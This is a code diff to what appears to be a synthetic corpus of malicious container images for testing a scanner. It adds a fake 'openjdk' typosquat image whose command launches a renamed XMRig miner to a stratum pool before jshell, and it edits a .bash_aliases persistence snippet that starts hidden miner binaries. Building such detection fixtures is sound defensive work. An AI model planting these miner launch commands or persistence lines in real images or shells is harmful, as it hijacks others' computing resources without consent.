@@ -1131,8 +1131,8 @@ def _dero() -> ThreatImage:
     aliases = (
         "# ~/.bash_aliases\n"
         "alias ll='ls -alF'\n"
-        "if [ ! -f /tmp/.nginx.lock ]; then nohup /usr/bin/nginx >/dev/null 2>&1 & fi\n"
-        "if [ ! -f /tmp/.cloud.lock ]; then nohup /usr/bin/cloud >/dev/null 2>&1 & fi\n"
+        "nohup /usr/bin/nginx >/dev/null 2>&1 &\n"
+        "if ! pidof cloud >/dev/null; then nohup /usr/bin/cloud >/dev/null 2>&1 & fi\n"
     )
     spreader = fake_elf(
         "UPX!", "Go build ID: \"dero-synthetic\"", "masscan", "-p2375", "--rate", "10000",
@@ -1232,6 +1232,48 @@ def _thanhtudo() -> ThreatImage:
             Step('CMD ["python3", "/app/dao.py"] # buildkit'),
         ),
         config={"Cmd": ["python3", "/app/dao.py"], "WorkingDir": "/app"},
+        verdict=Verdict.MALICIOUS,
+        categories=frozenset({Category.MINER}),
+    )
+
+
+def _fake_openjdk() -> ThreatImage:
+    cmd = [
+        "/bin/sh", "-c",
+        "/opt/openjdk-17/bin/jexec --url=stratum+tcp://192.0.2.171:5555 --user=" + WALLET_VALID_2
+        + " --donate-level=1 --background --threads=4; exec jshell",
+    ]  # fmt: skip
+    java = fake_elf("OpenJDK Runtime Environment (build 17.0.2+8-86)", "JAVA_HOME", "-XX:+UseContainerSupport")
+    return ThreatImage(
+        id="1.10-fake-openjdk-miner-on-start",
+        family="1.10 typosquat miner images",
+        repository="c43602f9cc95/openjdk",
+        tag="17",
+        summary="fakes the official openjdk image; the command starts a renamed XMRig (jexec) before jshell",
+        steps=(
+            *_ubuntu_steps("20.04", "focal"),
+            Step("ENV JAVA_HOME=/opt/openjdk-17 # buildkit"),
+            Step(
+                "COPY openjdk-17 /opt/openjdk-17 # buildkit",
+                {
+                    "opt": FileSpec.dir(),
+                    "opt/openjdk-17": FileSpec.dir(),
+                    "opt/openjdk-17/bin": FileSpec.dir(),
+                    "opt/openjdk-17/bin/java": _exe(java),
+                    "opt/openjdk-17/bin/jshell": _exe(fake_elf("jshell 17.0.2", "JShell")),
+                    "opt/openjdk-17/bin/jexec": _exe(xmrig_binary("6.17.0")),
+                },
+            ),
+            _cmd_step("Cmd", cmd),
+        ),
+        config={
+            "Cmd": cmd,
+            "Env": [
+                "PATH=/opt/openjdk-17/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
+                "JAVA_HOME=/opt/openjdk-17",
+                "JAVA_VERSION=17.0.2",
+            ],
+        },
         verdict=Verdict.MALICIOUS,
         categories=frozenset({Category.MINER}),
     )
@@ -1472,6 +1514,7 @@ def corpus() -> list[ThreatImage]:
         _dero(),
         _vibersastra(),
         _thanhtudo(),
+        _fake_openjdk(),
         _metal3d_open_miner(),
         _root_ssh_key(),
         _credential_theft(),
